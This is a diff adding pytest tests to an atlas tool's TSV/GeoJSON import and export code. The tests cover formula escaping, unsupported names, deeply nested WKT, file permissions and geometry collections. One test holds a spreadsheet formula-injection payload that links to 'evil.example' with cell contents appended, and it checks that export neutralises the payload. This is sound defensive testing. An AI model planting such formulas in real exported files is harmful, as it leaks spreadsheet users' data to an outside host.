@@ -100,3 +100,73 @@ def test_our_schema_s_start_and_end_that_are_no_dates_are_refused_where_they_are
     assert result.returncode == 2
     assert "ours.geojson:/features/0/properties: start 'Y-170000000002'" in result.stderr
     assert not (tmp_path / "out").exists()
+
+
+def _small_atlas(folder: Path, name: str, forms: str = "") -> Path:
+    folder.mkdir()
+    (folder / "atlas.yaml").write_text("title: Small\n", encoding="utf-8")
+    (folder / "places.yaml").write_text(f"- id: p\n  name: {json.dumps(name)}\n  coordinates: [41.9, 12.5]\n{forms}",
+                                        encoding="utf-8")
+    (folder / "events.yaml").write_text("[]\n", encoding="utf-8")
+    (folder / "periods.yaml").write_text("[]\n", encoding="utf-8")
+    return folder
+
+
+def test_lp_tsv_guards_formulas_and_reads_them_back(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    atlas = _small_atlas(tmp_path / "a", formula, "  kind: \"=1+1\"\n")
+    out = tmp_path / "x.tsv"
+    assert run_atlas("export", atlas, "--format", "lptsv", "-o", out).returncode == 0
+    cells = [line.split("\t") for line in out.read_text(encoding="utf-8").splitlines()][1]
+    assert f"'{formula}" in cells and "'=1+1" in cells
+    assert not any(cell and cell[0] in "=+-@" for cell in cells if not cell.lstrip("-").replace(".", "").isdigit())
+    back = tmp_path / "back"
+    assert run_atlas("import", out, "-o", back).returncode == 0
+    place = yaml.safe_load((back / "places.yaml").read_text(encoding="utf-8"))[0]
+    assert place["name"] == formula
+
+
+def test_lp_tsv_says_which_names_it_cannot_hold(tmp_path: Path) -> None:
+    atlas = _small_atlas(tmp_path / "a", "Café@en")
+    result = run_atlas("export", atlas, "--format", "lptsv", "-o", tmp_path / "x.tsv")
+    assert result.returncode == 0
+    said = result.stdout + result.stderr
+    assert "names holding '@' or ';'" in said and "Café@en" in said
+
+
+def test_a_deeply_nested_geowkt_is_refused_at_its_row(tmp_path: Path) -> None:
+    given = tmp_path / "deep.tsv"
+    given.write_text("id\ttitle\ttitle_source\tstart\tgeowkt\n"
+                     f"a\tA\tme\t1900\tPOINT {'(' * 3000}1 2{')' * 3000}\n", encoding="utf-8")
+    result = run_atlas("import", given, "-o", tmp_path / "out", "--format", "lptsv")
+    assert result.returncode == 2
+    assert "deep.tsv:row 2: a value nested too deeply" in result.stderr and "RecursionError" not in result.stderr
+
+
+def test_an_import_keeps_the_permissions_of_the_files_it_adds_to(tmp_path: Path) -> None:
+    atlas = tmp_path / "atlas"
+    shutil.copytree(ROOT / "tests" / "samples" / "good", atlas)
+    (atlas / "places.yaml").chmod(0o600)
+    given = _write(tmp_path / "g.geojson", _collection([_point({"name": "Harmless spot"})]))
+    assert run_atlas("import", given, "-o", atlas).returncode == 0
+    assert (atlas / "places.yaml").stat().st_mode & 0o777 == 0o600
+    assert "Harmless spot" in (atlas / "places.yaml").read_text(encoding="utf-8")
+
+
+def test_of_a_geometry_collection_the_member_in_force_last_is_the_place_s(tmp_path: Path) -> None:
+    def member(geometry: dict[str, Any], start: str) -> dict[str, Any]:
+        return {**geometry, "when": {"timespans": [{"start": {"in": start}}]}}
+    square = {"type": "Polygon", "coordinates": [[[10, 40], [12, 40], [12, 42], [10, 42], [10, 40]]]}
+    given = _write(tmp_path / "c.lpf.json", {"type": "FeatureCollection", "@context": "https://w3id.org/lpf",
+                                             "features": [{"@id": "http://example.org/c", "type": "Feature",
+                                                           "properties": {"title": "C"},
+                                                           "names": [{"toponym": "C"}],
+                                                           "geometry": {"type": "GeometryCollection", "geometries": [
+                                                               member({"type": "Point", "coordinates": [11, 41]},
+                                                                      "1900"),
+                                                               member(square, "1950")]}}]})
+    out = tmp_path / "out"
+    result = run_atlas("import", given, "-o", out)
+    assert result.returncode == 0, result.stderr
+    place = yaml.safe_load((out / "places.yaml").read_text(encoding="utf-8"))[0]
+    assert "coordinates" not in place  # the polygon of 1950, not the point of 1900
